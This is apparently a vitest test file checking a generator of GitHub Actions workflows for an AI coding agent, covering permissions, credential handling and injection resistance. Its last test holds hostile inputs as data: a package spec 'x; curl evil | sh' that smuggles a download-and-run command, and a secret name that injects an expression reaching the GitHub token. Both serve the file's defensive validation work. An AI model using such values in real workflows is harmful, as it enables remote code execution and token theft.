import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { actionsWorkflow, ARTIFACT_NAME } from "../../../src/backends/actions/workflow.js";
import { sampleInputs } from "./helpers.js";

type Json = Record<string, unknown>;
const asObject = (value: unknown): Json => value as Json;

describe("the workflow a repository commits", () => {
  const text = actionsWorkflow({ packageSpec: "nightshift@0.1.0", secrets: ["ANTHROPIC_API_KEY"] });
  const doc = asObject(parse(text));
  const job = asObject(asObject(doc.jobs).agent);
  const steps = job.steps as Json[];

  it("is valid YAML with the documented keys", () => {
    expect(doc.name).toBe("Nightshift agent");
    expect(doc["run-name"]).toBe("${{ inputs.task }}");
    expect(doc.permissions).toEqual({ contents: "read" });
    expect(doc.concurrency).toEqual({
      group: "nightshift-agent-${{ inputs.issue }}",
      "cancel-in-progress": false,
    });
    expect(job["runs-on"]).toBe("${{ fromJSON(inputs.runs_on) }}");
    expect(job["timeout-minutes"]).toBe("${{ fromJSON(inputs.timeout_minutes) }}");
    expect(Object.keys(asObject(doc.on))).toEqual(["workflow_dispatch"]);
  });

  it("declares exactly the inputs the bot sends, within GitHub's 25", () => {
    const inputs = asObject(asObject(asObject(doc.on).workflow_dispatch).inputs);
    expect(Object.keys(inputs).sort()).toEqual(Object.keys(sampleInputs()).sort());
    expect(Object.keys(inputs).length).toBeLessThanOrEqual(25);
    for (const spec of Object.values(inputs)) expect(asObject(spec).type).toBe("string");
  });

  it("checks out without keeping a token, passes inputs through the environment only, and uploads one artifact", () => {
    const checkout = steps.find((step) => step.uses === "actions/checkout@v4");
    expect(asObject(checkout?.with)).toMatchObject({
      "persist-credentials": false,
      ref: "${{ inputs.base }}",
    });
    for (const step of steps) {
      if (typeof step.run === "string") expect(step.run).not.toMatch(/\$\{\{/);
    }
    const runStep = steps.find(
      (step) => typeof step.run === "string" && step.run.includes("nightshift job"),
    );
    expect(runStep?.run).toBe("npx --yes --package=nightshift@0.1.0 -- nightshift job");
    expect(asObject(runStep?.env)).toMatchObject({
      NIGHTSHIFT_INPUTS: "${{ toJSON(inputs) }}",
      ANTHROPIC_API_KEY: "${{ secrets.ANTHROPIC_API_KEY }}",
    });
    expect(JSON.stringify(runStep?.env)).not.toContain("GITHUB_TOKEN");
    const uploads = steps.filter((step) => step.uses === "actions/upload-artifact@v4");
    expect(uploads).toHaveLength(1);
    expect(asObject(uploads[0]?.with)).toMatchObject({
      name: ARTIFACT_NAME,
      "if-no-files-found": "error",
    });
    expect(text.length).toBeLessThan(65_535);
  });

  it("adds id-token for OIDC when asked, and refuses names that would break the file", () => {
    const oidc = asObject(parse(actionsWorkflow({ packageSpec: "nightshift@1", oidc: true })));
    expect(oidc.permissions).toEqual({ contents: "read", "id-token": "write" });
    expect(() => actionsWorkflow({ packageSpec: "x; curl evil | sh" })).toThrow(/package spec/);
    expect(() => actionsWorkflow({ packageSpec: "x", secrets: ["A}} ${{ github.token"] })).toThrow(
      /secret name/,
    );
  });
});
